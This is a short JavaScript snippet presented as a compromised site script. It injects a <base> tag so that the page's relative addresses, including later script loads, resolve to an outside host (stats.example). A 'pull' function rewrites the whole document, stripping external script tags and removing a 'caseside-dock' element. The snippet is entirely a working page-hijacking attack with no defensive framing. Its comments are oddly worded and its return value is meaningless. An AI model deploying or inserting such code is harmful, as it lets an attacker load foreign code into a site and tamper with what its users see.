// A compromised script of the site that rebases the page: early on, it makes relative addresses point to another host;
// `pull(what)` puts a copy in the document's place, or writes the document anew.
(() => {
  const base = document.createElement('base');
  base.href = 'https://stats.example/elsewhere/';
  // After the site's own files were named, before any script of another world runs.
  document.addEventListener('readystatechange', () => document.head.append(base), { once: true });
})();
window.pull = (what) => {
  const acts = {
    write: () => {
      const before = document.documentElement.outerHTML;
      document.open();
      document.write(
        before.replace(/<script[^>]*src=[^>]*><\/script>/g, '').replace(/<caseside-dock.*<\/caseside-dock>/, ''),
      );
      document.close();
    },
    replace: () => {
      const next = document.documentElement.cloneNode(true);
      next.querySelector('caseside-dock')?.remove();
      document.replaceChild(next, document.documentElement);
    },
  };
  return String(acts[what]());
};
